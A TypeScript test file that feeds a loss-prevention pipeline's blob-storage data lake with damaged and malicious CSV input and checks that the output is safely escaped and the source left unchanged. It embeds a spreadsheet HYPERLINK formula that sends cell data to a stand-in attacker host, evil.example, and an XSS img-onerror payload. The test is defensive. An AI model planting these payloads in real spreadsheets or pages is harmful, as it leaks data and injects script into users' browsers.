import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { BlobServiceClient } from '@azure/storage-blob';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { blobFiles, type Files } from '../../shared/lossPrevention/files.ts';
import { prefixed } from '../../shared/lossPrevention/prefixed.ts';
import { runLossPrevention } from '../../shared/lossPrevention/run.ts';
import { openStorage, type Storage } from '../../shared/storage/index.ts';
import { type Azurite, startAzurite } from '../../test/azurite.ts';
import { generate, sampleDefaults } from './generate.ts';

let azurite: Azurite;
let storage: Storage;
let root: string;

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'lp-poison-'));
  azurite = await startAzurite();
  storage = openStorage({ connectionString: azurite.connectionString });
  await storage.ensure({ containers: ['lake', 'lossprevention'] });
});

afterAll(async () => {
  await azurite?.stop();
  await rm(root, { recursive: true, force: true });
});

const evil = '=HYPERLINK("http://evil.example/?"&A1,"x")';
const scripted = '</script><img src=x onerror=alert(1)>"\'';

async function textOf(files: Files, name: string): Promise<string> {
  const content = await files.read(name);
  if (!content) throw new Error(`${name} is not there`);
  return new TextDecoder().decode(content);
}

describe('a poisoned lake in blob storage', () => {
  it('gives a dashboard of what is good, says why the rest is not in it, executes nothing and changes nothing', async () => {
    await generate(root, {
      ...sampleDefaults,
      stores: 2,
      staffPerStore: 5,
      months: 1,
      days: 9,
      transactionsPerMonth: 60,
    });
    const lake = storage.blobs('lake');
    const service = BlobServiceClient.fromConnectionString(azurite.connectionString);
    for (const entity of await readdir(join(root, 'lake')))
      for (const name of await readdir(join(root, 'lake', entity)))
        await lake.write(`${entity}/${name}`, await spoil(`${entity}/${name}`));
    // A gzip that ends in the middle, a file of another shape, text that is none, a folder named as a file, an endless blob.
    const zipped = gzipSync(await readFile(join(root, 'lake', 'Sales', '2026-01-01.csv')));
    await lake.remove('Sales/2026-01-01.csv');
    await lake.write('Sales/2026-01-01.csv.gz', zipped.subarray(0, Math.floor(zipped.length * 0.7)));
    await lake.write('Sales/2026-01-02.csv', 'colour,size\nred,3\nblue,4\n');
    await lake.write('Sales/2026-01-03.csv', new Uint8Array(2_000_000));
    await lake.write('Sales/2026-01-30.csv', '');
    await lake.write(
      'Transactions/2026-01-31.csv/part-0001.csv',
      await readFile(join(root, 'lake', 'Transactions', '2026-01-09.csv')),
    );
    await service.getContainerClient('lake').getPageBlobClient('Sales/2026-01-04.csv').deleteIfExists();
    await service
      .getContainerClient('lake')
      .getPageBlobClient('Sales/2026-01-04.csv')
      .create(30 * 1024 ** 3);
    const before = await etags();

    const out = prefixed(blobFiles(storage.blobs('lossprevention')), 'primary/');
    const outcome = await runLossPrevention({ lake: blobFiles(lake), out, temporary: root });
    if (!outcome.ok) throw new Error(outcome.reason);
    const { summary } = outcome;
    const why = (file: string) => summary.problems.find((problem) => problem.file === file)?.reason ?? '';
    expect(why('Sales/2026-01-01.csv.gz')).toBe('not used: damaged gzip: unexpected end of file');
    expect(why('Sales/2026-01-02.csv')).toMatch(
      /no column for TRANSACTIONNUMBER of Sales; the file has colour, size|no header/,
    );
    expect(why('Sales/2026-01-03.csv')).toContain('NUL bytes');
    expect(why('Sales/2026-01-04.csv')).toContain('more than the 10000000000');
    expect(why('Sales/2026-01-30.csv')).toContain('empty');
    expect(why('Sales/2026-01-05.csv')).toMatch(/\d+ of \d+ rows are bad, more than 1 %/);
    // Their days are left out whole, and said to be; the others are all there, the one in a folder of parts included.
    for (const day of [1, 2, 3, 4, 5])
      expect(why(`Transactions/2026-01-0${day}.csv`)).toContain('left out with');
    expect(summary.unitsRead).toBe(5);
    expect(summary.rejects).toBe(1);

    const pages = new Map<string, string>();
    for await (const { name } of out.list(`${summary.dashboard}/`))
      pages.set(name.slice(summary.dashboard.length + 1), await textOf(out, name));
    expect(pages.get('staff.csv')).toContain(`"'=HYPERLINK(""http`);
    expect(
      JSON.parse(pages.get('result.json')!).sections.staff.entities.map(
        (entity: { id: string }) => entity.id,
      ),
    ).toContain(evil);
    for (const [name, page] of pages) {
      expect(name).toMatch(/^[a-z]+(\/[0-9a-f]+)?\.(html|csv|json)$/);
      if (!name.endsWith('.html')) continue;
      expect(page).not.toContain('<img');
      expect(page.match(/<script/g)?.length).toBe(name === 'index.html' ? 2 : 1);
    }
    expect(pages.get('staff.html')).toContain('&#60;/script&#62;&#60;img src=x onerror=alert(1)&#62;');
    const rejects: string[] = [];
    for await (const { name } of out.list('partials/'))
      if (name.endsWith('rejects.csv')) rejects.push(await textOf(out, name));
    const good = rejects.find((text) => text.includes('Payments/2026-01-07.csv'));
    expect(good?.split('\r\n')[1]).toMatch(/^Payments\/2026-01-07\.csv,3,/);
    expect(await etags()).toEqual(before);

    async function etags(): Promise<Record<string, string>> {
      const found: Record<string, string> = {};
      for await (const { name, etag } of lake.list()) found[name] = etag;
      return found;
    }
  });

  it('is read by one run at a time', async () => {
    const out = prefixed(blobFiles(storage.blobs('lossprevention')), 'primary/');
    const held = await out.lock('run.lock');
    const settings = { lake: blobFiles(storage.blobs('lake')), out, temporary: root };
    expect(await runLossPrevention(settings)).toEqual({ ok: false, reason: 'busy' });
    await held?.release();
  });
});

/** The sample's file with what an ill-meaning or careless sender might put into it. */
async function spoil(name: string): Promise<string> {
  const text = await readFile(join(root, 'lake', name), 'utf8');
  const quote = (value: string) => `"${value.replaceAll('"', '""')}"`;
  if (name.startsWith('Transactions/'))
    return text.replaceAll(/E0001002/g, quote(evil)).replaceAll(/Cashier/g, quote(scripted));
  // Every twentieth price is none: far more than one in a hundred.
  if (name === 'Sales/2026-01-05.csv')
    return text
      .replaceAll(/\.\d\d,0\.00,(?=[^\n]*5,demo)/g, '.9x,0.00,')
      .replace(/\n([^,]*,[^,]*,[^,]*,1,[^,]*,[^,]*,)1,/g, '\n$1one,');
  if (name === 'Payments/2026-01-07.csv') {
    const lines = text.split('\n');
    lines.splice(2, 0, 'S0001-9999,"unbalanced" quote,S0001');
    return `${lines.join('\n')}${lines.slice(3).join('\n').repeat(4)}`;
  }
  return text;
}
